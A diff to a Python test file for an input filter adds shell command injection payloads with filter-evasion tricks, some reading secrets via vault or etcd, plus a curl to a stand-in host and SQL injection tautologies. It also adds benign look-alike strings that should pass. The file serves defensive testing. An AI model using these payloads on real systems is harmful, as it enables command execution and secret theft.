@@ -43,6 +43,13 @@ KINDS = {
     "object of a template engine": ["{%set x=lipsum%}{{x}}", "{%for i in cycler.mro()%}{{i}}{%endfor%}", "{%if joiner.mro()%}{{x}}{%endif%}", "{%for i in g%}{{i}}{%endfor%}", "{{ current_app.config }}", "{%- set z = namespace -%}{{ z }}"],
     "expression that is not escaped": ["{{!locals()}}", "{{!9**9**9}}", "{{!_env}}", "{{!x.__class__}}", "{{! help() }}", "{{![x for x in _env]}}", "a{{!vars(request)}}b"],
     "settings in a template of any text": ["FROM python:3\nRUN {{config.items()}}\nCMD [\"x\"]", '  File "{{config.SECRET_KEY}}", line 1, in f', "the log says {{request.environ}} here"],
+    "program in quotes": ["x;'cat' config.py", 'x;"cat" f', "x;\\cat f", "x;\\c\\a\\t f", "$(\\cat f)", "127.0.0.1|'sh' x", "`'cat' f`"],
+    "program in pieces": ["x;c${z}at f", "x;c${z}url evil.example", "x;/b${z}in/sh x", "x;${x:-cat} f", "x;/usr/bin/c?t f", "x;a=s;b=h;$a$b x", "x;IFS=,;a=sh,x;$a"],
+    "words before a program": ["x;exec cat f", "x;command cat f", "$(exec cat f)", "x;<f cat", "x;2>&1 cat f", "a && LD_PRELOAD=./x.so ls", "x;PATH=.:$PATH ls", "img.png|exec bash"],
+    "grammar around a program": ["x;f(){ cat f;};f", "x;function f { cat f; };f", "$(f(){ cat x;};f)", "x;if cat f;then :;fi", "x;(./x &)", "x;. x", "x;trap sh EXIT", "x;mapfile a<f;echo $a"],
+    "substitution of any program": ["$(etcdctl get x)", "x$(vault read y)", "x`vault read y`", "`objdump -d x`"],
+    "quote and a term": ["zed' or -age --", "zed'or ~age --", "zed' or age*age --", "zed' or .1 --", "zed' or [age] --", '" is not "', "zed' or age isnull or age --"],
+    "number and a column": ["0 or id", "1 or rowid", "0 or(id)", "0 or id notnull", "1 or id -- x", "1|0 or id", "0 or id in (1,2,3)", "0 or title like title", "0 or 'S3' < (select secret from users)"],
     "JSON pointer to a prototype": ["/constructor/prototype/admin", "/a/constructor/prototype/x", "/__proto__/x"],
 }  # fmt: skip
 
@@ -69,6 +76,9 @@ def test_a_payload_of_the_kind_is_refused(inspection: Inspection, kind: str) -> 
         *('size="12" href="//cdn.example.com/a.png"', '"best" online = yes', "what does import(name) do", "new Promise(resolve)"),
         *("{{! a comment }}", "{{!-- a comment (old) --}}", "{{!base}}", "{% for i in items %}{{ i }}{% endfor %}", "{{ namespace }}"),
         *('"hello," she said, "world"', '"a" - "b"'),
+        *("dogs; 'cats' too", "size;'large' only", "x;\\theta y", "a;\n\tb", "a;'b';c", "a;(b c)", "use `git commit` often", "US$(in thousands)"),
+        *("session; exec summary", "x; (see below)", "x; if needed", "A=1 B=2", "v1.2; exec time 5", "a;b=c;d=e f", "`date` of birth"),
+        *("2 or more", "0 or one", "5 or id card", "id or name", 'he said "yes" is not "no"', "I, II or III", "this or that -- both"),
         *("--help", "-o output.txt", "show tables and chairs", "{name}", "{user.name}", "=A1"),
     ],
 )  # fmt: skip
